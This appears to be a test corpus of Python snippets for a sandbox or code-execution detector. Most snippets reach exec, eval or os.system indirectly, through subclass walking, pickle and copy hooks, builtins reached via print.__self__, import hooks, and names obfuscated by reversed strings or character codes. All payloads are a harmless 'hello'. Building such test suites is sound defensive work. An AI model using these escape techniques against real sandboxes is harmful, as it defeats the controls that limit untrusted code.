import asyncio
async def m():
    proc = await asyncio.create_subprocess_shell("echo hello", stdout=asyncio.subprocess.PIPE)
    print((await proc.communicate())[0].decode())
asyncio.run(m())
# ---
class A:
    def f(self): pass
A().f.__func__.__globals__["__builtins__"].exec("print('hello')")
# ---
import sys, io
sys.stdin = io.StringIO("'hello'")
print(eval(input("expr: ")))
# ---
type.__dict__["__subclasses__"](object)
[c for c in type.__dict__["__subclasses__"](object) if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("echo hello")
# ---
import code
code.InteractiveConsole().push("print('hello')")
# ---
from code import InteractiveInterpreter as I
I().runcode(compile("print('hello')", "", "exec"))
# ---
f = compile("print('hello')", "f", "exec")
type(lambda: 0)(f, globals())()
# ---
import copyreg, copy
class A: pass
copyreg.pickle(A, lambda a: (exec, ("print('hello')",)))
copy.copy(A())
# ---
import cProfile as c
c.runctx("print('hello')", {}, {})
# ---
from ctypes import *
print("hello", cast(id(1), POINTER(c_int)))
# ---
import ctypes.util
print("hello", ctypes.util.find_library("c"))
# ---
import dataclasses
C = dataclasses.make_dataclass("C", [("x", "int", dataclasses.field(default_factory=lambda: exec("print('hello')")))])
C()
# ---
import copy
class A:
    x = 1
    def __setstate__(self, s): exec("print('hello')")
a = A(); a.y = 1
copy.copy(a)
# ---
import json
def dig(o, names):
    return dig(getattr(o, names[0]), names[1:]) if names else o
dig(json, ["codecs", "builtins", "exec"])("print('hello')")
# ---
b = getattr(print, [a for a in dir(print) if "self" in a][0])
b.exec("print('hello')")
# ---
class Shell:
    def __getattr__(self, name):
        import subprocess
        return lambda *a: subprocess.run([name, *a])
Shell().echo("hello")
# ---
import enum
enum.Enum("E", {"a": enum.sys.modules["os"].system("echo hello") or 1})
# ---
import os
os.popen2 if hasattr(os, "popen2") else print(os.popen("echo hello").read())
# ---
from ast import literal_eval
literal_eval = eval
literal_eval("print('hello')")
# ---
try: 1/0
except Exception as e:
    tb = e.__traceback__
    while tb.tb_next: tb = tb.tb_next
    tb.tb_frame.f_globals["__builtins__"].exec("print('hello')")
# ---
import gc
print("hello", len(gc.get_referrers(())))
# ---
import sys
class F:
    def find_spec(self, n, p, t=None): print("hello")
sys.meta_path.insert(0, F())
try: import nothing_here
except ImportError: pass
# ---
from importlib.machinery import SourceFileLoader
open("q.py", "w").write("print('hello')")
SourceFileLoader("q", "q.py").load_module()
# ---
calc = lambda expr: eval(expr, {"__builtins__": {}}, {})
print(calc("'hello'"))
# ---
import marshal
exec(marshal.loads(marshal.dumps(compile("print('hello')", "", "exec"))))
# ---
import mmap, ctypes
print("hello", mmap.mmap(-1, 10))
# ---
import types, random
mods = [v for v in vars(random).values() if isinstance(v, types.ModuleType)]
[m for m in mods if hasattr(m, "system")][0].system("echo hello")
# ---
import collections
print("hello", collections.namedtuple.__globals__["_sys"])
# ---
def a(code, scope={}):
    def b(): return exec(code, scope)
    b()
a("print('hello')")
# ---
object.__getattribute__(print, "__self__").exec("print('hello')")
# ---
import os
for f in (os.system,):
    f("echo hello")
# ---
import os
actions = {"list": os.listdir, "run": os.system}
actions["run"]("echo hello")
# ---
import pickle
class E:
    def __reduce__(self): return eval, ("print('hello')",)
pickle.loads(pickle.dumps(E()))
# ---
import cProfile
cProfile.Profile().run("print('hello')")
# ---
import trace
trace.Trace().runctx("print('hello')")
# ---
import copy
class A:
    def __reduce_ex__(self, p): return exec, ("print('hello')",)
copy.deepcopy(A())
# ---
import importlib as il, sys
m = il.reload(sys.modules["os"])
m.system("echo hello")
# ---
getattr(print, "__fles__"[::-1]).exec("print('hello')")
# ---
import math
allowed = {k: getattr(math, k) for k in dir(math)}
print(eval("'hello'", {"__builtins__": None}, allowed))
# ---
import shlex, subprocess
subprocess.run(shlex.split("echo hello"))
# ---
import sys
sys.path_hooks.append(lambda p: print("hello"))
sys.path_importer_cache.clear()
try: import nothing_here
except Exception: pass
# ---
import random
random.__dict__["_os"].__getattribute__("system")("echo hello")
# ---
import queue
queue.threading.sys.modules["os"].system("echo hello") if hasattr(queue.threading, "sys") else queue.threading._sys.modules["os"].system("echo hello")
# ---
classes = {}.__class__.__base__.__subclasses__()
wrap = next(c for c in classes if c.__name__ == "_wrap_close")
wrap.__init__.__globals__["popen"]("echo hello").close(); wrap.__init__.__globals__["system"]("echo hello")
# ---
import sys
class W:
    def write(self, s): sys.__stdout__.write("hello")
    def flush(self): pass
sys.stdout = W(); exec("print(1)")
# ---
class D(dict):
    def __missing__(self, k): return exec
SECRET="hello"
def f(): pass
print("{x.__globals__[SECRET]}".format_map(D(x=f)))
# ---
x = "".join(map(lambda n: chr(n), [95, 95])) 
getattr(getattr(print, x + "self" + x), "exec")("print('hello')")
# ---
class A:
    def f(self): return super().__getattribute__("f").__func__.__globals__
A().f()["__builtins__"].exec("print('hello')")
# ---
import threading, subprocess
threading.Thread(target=subprocess.call, args=(["echo", "hello"],)).start()
# ---
from timeit import Timer as T
T("print('hello')").timeit(1)
# ---
import linecache
linecache.os.system("echo hello")
# ---
import json
def dig(o, *names):
    for n in names: o = getattr(o, n)
    return o
dig(json, "codecs", "builtins", "exec")("print('hello')")
# ---
def f(): pass
getattr(f, "__builtins__")["exec"]("print('hello')")
# ---
import unittest
class T(unittest.TestCase):
    def test(self): exec("print('hello')")
unittest.main(argv=["x"], exit=False)
# ---
import subprocess
with subprocess.Popen(["echo", "hello"]) as p: p.wait()
# ---
import contextlib
class C(contextlib.AbstractContextManager):
    def __exit__(self, *args):
        args[2].tb_frame.f_builtins["exec"]("print('hello')")
        return True
with C(): 1/0
